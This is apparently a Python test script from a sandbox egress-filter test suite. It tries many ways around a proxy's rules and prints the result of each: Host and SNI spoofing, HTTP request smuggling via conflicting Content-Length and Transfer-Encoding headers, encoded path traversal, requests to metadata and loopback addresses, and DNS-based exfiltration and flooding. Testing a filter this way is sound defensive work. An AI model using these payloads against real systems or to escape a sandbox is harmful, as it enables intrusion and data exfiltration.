"""bypass.py - runs in the box: tries each way around the door's rules that ATTACKS.md and the notes list, and prints
"NAME STATUS" for each, where STATUS is what came back: an HTTP status, "closed", "error" or "silence". The suite
knows which of them the origin must never have seen: every request carries its name in the path.

usage: bypass.py ALLOWED DENIED PLAIN   (three host names: TLS allowed for GET /ok/**, not allowed, plain HTTP allowed)
"""
import socket
import ssl
import struct
import sys

allowed, denied, plain = sys.argv[1:4]


def connect(host, port=443, sni=None, alpn=None, tls=True):
    s = socket.create_connection((host, port), 60)
    if tls:
        ctx = ssl.create_default_context()
        if alpn:
            ctx.set_alpn_protocols(alpn)
        s = ctx.wrap_socket(s, server_hostname=sni or host)
    s.settimeout(60)
    return s


def read(s):
    data = b""
    try:
        while len(data) < 65536:
            part = s.recv(65536)
            if not part:
                break
            data += part
            if b"\r\n\r\n" in data and data.startswith(b"HTTP/1."):
                break
    except socket.timeout:
        return data or b"silence"
    except OSError:
        return data or b"closed"
    return data or b"closed"


def status(data):
    if data in (b"silence", b"closed"):
        return data.decode()
    return data.split()[1].decode() if data.startswith(b"HTTP/1.") else "odd"


def say(name, result):
    print(name, result, flush=True)


def attempt(name, work):
    try:
        say(name, work())
    except (OSError, ssl.SSLError, ValueError, IndexError) as e:
        say(name, "error" if not isinstance(e, socket.timeout) else "silence")


def raw(name, head, host=None, tls=True, sni=None, body=b""):
    """One request as bytes; {M} is the marker path, {H} the allowed host."""
    def work():
        h = host or (allowed if tls else plain)
        with connect(h, 443 if tls else 80, sni=sni, tls=tls) as s:
            s.sendall(head.replace("{M}", "/ok/" + name).replace("{H}", h).replace("\n", "\r\n").encode("latin-1") + body)
            return status(read(s))
    attempt(name, work)


good = "GET {M} HTTP/1.1\nHost: {H}\n\n"
# positive controls
raw("control-tls", good)
raw("control-plain", good, tls=False)

# 1, 2, E1, E2: one name
raw("host-differs", f"GET {{M}} HTTP/1.1\nHost: {denied}\n\n")
raw("host-differs-plain", f"GET {{M}} HTTP/1.1\nHost: {denied}\n\n", tls=False)
raw("host-twice", f"GET {{M}} HTTP/1.1\nHost: {{H}}\nHost: {denied}\n\n")
raw("host-twice-same", "GET {M} HTTP/1.1\nHost: {H}\nHost: {H}\n\n")
raw("host-missing", "GET {M} HTTP/1.1\n\n")
raw("host-empty", "GET {M} HTTP/1.1\nHost:\n\n")
raw("host-nul", f"GET {{M}} HTTP/1.1\nHost: {denied}\0.{{H}}\n\n")
raw("host-user", f"GET {{M}} HTTP/1.1\nHost: {{H}}@{denied}\n\n")
raw("host-space", f"GET {{M}} HTTP/1.1\nHost: {{H}} {denied}\n\n")
raw("host-list", f"GET {{M}} HTTP/1.1\nHost: {{H}}, {denied}\n\n")
raw("host-port-differs", "GET {M} HTTP/1.1\nHost: {H}:8443\n\n")
raw("host-percent", "GET {M} HTTP/1.1\nHost: %6f{H}\n\n")
raw("absolute-differs", f"GET https://{denied}{{M}} HTTP/1.1\nHost: {{H}}\n\n")
raw("absolute-plain-differs", f"GET http://{denied}{{M}} HTTP/1.1\nHost: {{H}}\n\n", tls=False)
raw("control-absolute", "GET https://{H}{M} HTTP/1.1\nHost: {H}\n\n")
raw("control-case", "GET {M} HTTP/1.1\nHost: " + allowed.upper() + "\n\n")
raw("control-dot", "GET {M} HTTP/1.1\nHost: {H}.\n\n")
attempt("sni-differs", lambda: status(read(connect(allowed, sni=denied))))


def reused():
    with connect(allowed) as s:
        s.sendall(good.replace("{M}", "/ok/reused-first").replace("{H}", allowed).replace("\n", "\r\n").encode())
        first = read(s)
        n = int(first.lower().split(b"content-length:")[1].split()[0])
        got = len(first.split(b"\r\n\r\n", 1)[1])
        while got < n:
            got += len(s.recv(n - got))
        s.sendall(f"GET /ok/reused HTTP/1.1\r\nHost: {denied}\r\n\r\n".encode())
        return status(read(s))


attempt("reused", reused)

# 19, E3: framing
post = "POST {M} HTTP/1.1\nHost: {H}\n"
raw("te-and-cl", post + "Content-Length: 4\nTransfer-Encoding: chunked\n\n", body=b"0\r\n\r\nGET /ok/smuggled HTTP/1.1\r\nHost: x\r\n\r\n")
raw("cl-twice", post + "Content-Length: 0\nContent-Length: 5\n\n", body=b"abcde")
raw("cl-sign", post + "Content-Length: +5\n\n", body=b"abcde")
raw("cl-list", post + "Content-Length: 5, 5\n\n", body=b"abcde")
raw("cl-hex", post + "Content-Length: 0x5\n\n", body=b"abcde")
raw("cl-huge", post + "Content-Length: 99999999999999999999\n\n", body=b"abcde")
raw("te-other", post + "Transfer-Encoding: gzip, chunked\n\n", body=b"0\r\n\r\n")
raw("te-odd", post + "Transfer-Encoding: xchunked\n\n", body=b"0\r\n\r\n")
raw("te-tab", post + "Transfer-Encoding:\tchunked\x0b\n\n", body=b"0\r\n\r\n")
raw("te-10", "POST {M} HTTP/1.0\nHost: {H}\nTransfer-Encoding: chunked\n\n", body=b"0\r\n\r\n")
raw("fold", "GET {M} HTTP/1.1\nHost: {H}\nX-A: b\n c\n\n")
raw("space-colon", "GET {M} HTTP/1.1\nHost: {H}\nX-A : b\n\n")
raw("nul-value", "GET {M} HTTP/1.1\nHost: {H}\nX-A: b\0c\n\n")
raw("bare-cr", "GET {M} HTTP/1.1\nHost: {H}\nX-A: b\rX-B: c\n\n")
raw("method-token", "G@T {M} HTTP/1.1\nHost: {H}\n\n")
raw("version", "GET {M} HTTP/1.9\nHost: {H}\n\n")
raw("http09", "GET {M}\n")
raw("connect", f"CONNECT {denied}:443 HTTP/1.1\nHost: {denied}:443\n\n")
raw("trace", "TRACE {M} HTTP/1.1\nHost: {H}\n\n")
raw("chunk-size", post + "Transfer-Encoding: chunked\n\n", body=b"0x3\r\nabc\r\n0\r\n\r\n")
raw("chunk-end", post + "Transfer-Encoding: chunked\n\n", body=b"3\r\nabcX0\r\n\r\n")
raw("upgrade-h2c", "GET {M} HTTP/1.1\nHost: {H}\nConnection: Upgrade, HTTP2-Settings\nUpgrade: h2c\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\n\n", tls=False)


def bare_lf():
    with connect(allowed) as s:
        s.sendall(f"GET /ok/bare-lf HTTP/1.1\nHost: {allowed}\n\n".encode())
        return status(read(s))


attempt("bare-lf", bare_lf)

raw("override", "POST {M} HTTP/1.1\nHost: {H}\nX-HTTP-Method-Override: delete\nContent-Length: 0\n\n")

# E4: one path
raw("dots", "GET /ok/../secret/dots HTTP/1.1\nHost: {H}\n\n")
raw("dots-encoded", "GET /ok/%2e%2e/secret/dots-encoded HTTP/1.1\nHost: {H}\n\n")
raw("slash-encoded", "GET /ok%2f..%2fsecret/slash-encoded HTTP/1.1\nHost: {H}\n\n")
raw("dots-semicolon", "GET /ok/..;/secret/dots-semicolon HTTP/1.1\nHost: {H}\n\n")
raw("backslash", "GET /ok/..\\secret/backslash HTTP/1.1\nHost: {H}\n\n")
raw("twice-encoded", "GET /ok/%252e%252e/secret/twice-encoded HTTP/1.1\nHost: {H}\n\n")
raw("double-slash", "GET //secret/double-slash HTTP/1.1\nHost: {H}\n\n")
raw("nul-path", "GET /ok/%00/nul-path HTTP/1.1\nHost: {H}\n\n")

# 38, E15: limits
raw("many-fields", "GET {M} HTTP/1.1\nHost: {H}\n" + "".join(f"X-{i}: y\n" for i in range(200)) + "\n")
raw("long-field", "GET {M} HTTP/1.1\nHost: {H}\nX-A: " + "y" * 20000 + "\n\n")
raw("long-target", "GET {M}" + "y" * 40000 + " HTTP/1.1\nHost: {H}\n\n")

# 4, E10: addresses in every spelling, as literals and as names
for name, host in (("metadata", "169.254.169.254"), ("loopback", "127.0.0.2"), ("private", "10.0.0.1"),
                   ("host-gateway", "198.18.0.1"), ("zero", "0.0.0.0"), ("public", "192.0.2.7")):
    def literal(host=host, name=name):
        with connect(host, 80, tls=False) as s:
            s.sendall(f"GET /ok/literal-{name} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
            return status(read(s))
    attempt("literal-" + name, literal)


# 9: no SNI; 5.2: TLS 1.1
def without_sni():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    with ctx.wrap_socket(socket.create_connection((allowed, 443), 60)) as s:
        s.sendall(good.replace("{M}", "/ok/control-no-sni").replace("{H}", allowed).replace("\n", "\r\n").encode())
        return status(read(s))


attempt("control-no-sni", without_sni)


def old_tls():
    ctx = ssl.create_default_context()
    ctx.minimum_version = ctx.maximum_version = ssl.TLSVersion.TLSv1_1
    with ctx.wrap_socket(socket.create_connection((allowed, 443), 60), server_hostname=allowed):
        return "open"


attempt("tls11", old_tls)


# 11: what is neither TLS nor HTTP
def not_http():
    with connect(allowed, 443, tls=False) as s:
        s.sendall(b"SSH-2.0-OpenSSH_9.2\r\n")
        return status(read(s))


attempt("ssh-on-443", not_http)


def sslv2():
    with connect(allowed, 443, tls=False) as s:
        s.sendall(b"\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10" + b"\0" * 37)
        return status(read(s))


attempt("sslv2", sslv2)


# E8, 6: names
def question(name, qtype):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", qtype, 1)


def heard(s):
    data, peer = s.recvfrom(4096)
    flags, _, answers = struct.unpack(">HHH", data[2:8])
    return f"{flags & 15}/{answers}/{peer[0]}"


def query(name, qtype, server="198.18.0.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(60)
    s.sendto(question(name, qtype), (server, 53))
    return heard(s)


attempt("dns-a", lambda: query(denied, 1))
attempt("dns-aaaa", lambda: query(denied, 28))
attempt("dns-https", lambda: query(denied, 65))
attempt("dns-txt", lambda: query("data-data-data." + denied, 16))
attempt("dns-elsewhere", lambda: query(denied, 1, "203.0.113.53"))


def flood():
    """Fifty at a time, so that they come faster than the door forgives; when it does, one more is a name again."""
    codes = []
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(60)
    for i in range(0, 600, 50):
        for n in range(i, i + 50):
            s.sendto(question(f"n{n}-{'x' * 40}.{denied}", 1), ("198.18.0.1", 53))
        codes += [heard(s).split("/")[0] for _ in range(50)]
    return "capped" if codes[0] == "0" and codes.count("3") >= 100 else f"uncapped {codes.count('0')} of {len(codes)}"


attempt("dns-flood", flood)
